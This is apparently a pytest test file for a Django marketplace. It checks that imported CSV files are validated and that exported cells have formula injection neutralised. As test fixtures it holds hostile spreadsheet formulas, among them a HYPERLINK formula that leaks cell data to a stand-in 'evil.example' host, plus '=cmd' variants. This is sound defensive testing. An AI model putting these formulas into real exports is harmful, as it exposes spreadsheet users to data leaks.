"""Hostile CSV in and out: what tests/marketplace/listings and tests/marketplace/ledger don't already cover.

Already covered there: cp874/TIS-620 and UTF-16 named with the line, UTF-8
with BOM, per-column length caps, the runaway-field cap with csv's global limit
restored, the file-size cap, control characters, the classic formula starts
and the payout download. Here: binary files and workbooks, NUL bytes, CRLF
files with quoted commas, quotes and line breaks, formula text surviving the
import as text and coming out neutralised, and the export's remaining tricks
(leading spaces, line feeds, full-width signs, NUL).
"""

import csv
import io
import zipfile

import pytest
from django.utils import translation

from marketplace.ledger.csv_export import csv_render, csv_safe_cell
from marketplace.listings.official_list import COLUMNS, official_list_read
from tests.marketplace.listings.official_lists import csv_text, official_row

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _english():
    with translation.override("en"):
        yield


@pytest.fixture
def write_bytes(tmp_path):
    def write(data: bytes, name="official_list.csv"):
        path = tmp_path / name
        path.write_bytes(data)
        return path

    return write


# --- Import -------------------------------------------------------------------------


def _workbook() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as book:
        book.writestr("[Content_Types].xml", "<Types/>")
        book.writestr("xl/workbook.xml", "<workbook/>")
    return out.getvalue()


def test_an_excel_workbook_saved_as_csv_by_name_only_is_named(write_bytes):
    parsed = official_list_read(write_bytes(_workbook()))
    [error] = parsed.errors
    assert "workbook" in error.message and "CSV UTF-8" in error.message
    assert parsed.rows == []


@pytest.mark.parametrize("data", [
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 32,
    b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 32,
])
def test_binary_files_are_refused_as_a_whole(write_bytes, data):
    parsed = official_list_read(write_bytes(data))
    [error] = parsed.errors
    assert "binary" in error.message and parsed.rows == []


def test_a_nul_byte_is_reported_with_its_line(write_bytes):
    rows = csv_text([official_row(upc="1"), official_row(upc="2", title_th="ผ้า\x00ไหม")])
    [error] = official_list_read(write_bytes(rows.encode())).errors
    assert error.line == 3 and "NUL" in error.message


def test_crlf_files_with_quoted_commas_quotes_and_line_breaks_are_read_exactly(write_bytes):
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")  # what Excel writes
    writer.writerow(COLUMNS)
    row = official_row(title_th='ผ้าไหม "ลายโบราณ", ทอมือ', description_th="บรรทัดแรก\r\nบรรทัดสอง, มีจุลภาค")
    writer.writerow([row[column] for column in COLUMNS])
    parsed = official_list_read(write_bytes(("\ufeff" + out.getvalue()).encode()))
    assert parsed.errors == []
    [read] = parsed.rows
    assert read.title_th == 'ผ้าไหม "ลายโบราณ", ทอมือ'
    assert read.description_th == "บรรทัดแรก\nบรรทัดสอง, มีจุลภาค"


def test_formula_text_is_imported_as_text_and_exported_neutralised(write_bytes):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"ดูรายละเอียด")'
    parsed = official_list_read(write_bytes(csv_text([official_row(title_th=hostile)]).encode()))
    [row] = parsed.rows
    assert row.title_th == hostile  # data stays as typed; only the export defuses it
    [_bom_header, cells] = list(csv.reader(io.StringIO(csv_render(["title"], [[row.title_th]]))))
    assert cells == ["'" + hostile]


# --- Export -------------------------------------------------------------------------


@pytest.mark.parametrize("value, expected", [
    ("  =1+1", "'  =1+1"),
    ("\u00a0@SUM(A1)", "'\u00a0@SUM(A1)"),
    ("\n=cmd", "'\n=cmd"),
    ("\uff1dSUM(A1)", "'\uff1dSUM(A1)"),
    ("ผ้า\x00=ไหม", "ผ้า=ไหม"),
    ("\x00=cmd", "'=cmd"),
    ("ราคา -10%", "ราคา -10%"),
])
def test_the_remaining_formula_tricks_are_neutralised(value, expected):
    assert csv_safe_cell(value) == expected


def test_exports_start_with_a_bom_and_quote_commas_quotes_and_line_breaks():
    text = csv_render(["ผู้ผลิต", "หมายเหตุ"], [['กลุ่ม "บ้านเอ", สุรินทร์', "บรรทัด 1\r\nบรรทัด 2"]])
    assert text.startswith("\ufeff")
    data = text.encode("utf-8")
    assert data.startswith(b"\xef\xbb\xbf")  # Excel opens it as UTF-8 and shows the Thai
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows == [["ผู้ผลิต", "หมายเหตุ"], ['กลุ่ม "บ้านเอ", สุรินทร์', "บรรทัด 1\r\nบรรทัด 2"]]


def test_oscars_staff_reports_are_neutralised_too():
    from django.utils import timezone
    from oscar.core.loading import get_class

    from cms.roles.services import roles_ensure
    from tests.cms.helpers import make_maker
    from tests.order_factory import make_order

    roles_ensure()
    maker = make_maker("report-a", "กลุ่มรายงาน", "Report Group")
    order = make_order("300001", [(maker.producer, maker.product)])
    order.guest_email = "=HYPERLINK(\"http://evil.example\")@x.th"
    order.save(update_fields=["guest_email"])
    generator = get_class("order.reports", "OrderReportGenerator")(
        formatter="CSV", start_date=timezone.localdate(), end_date=timezone.localdate(),
    )

    response = generator.generate()

    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    [row] = [row for row in rows if row and row[0] == "300001"]
    assert row[1] == "-"  # a guest's "no name" is left alone
    assert row[2] == "'=HYPERLINK(\"http://evil.example\")@x.th"
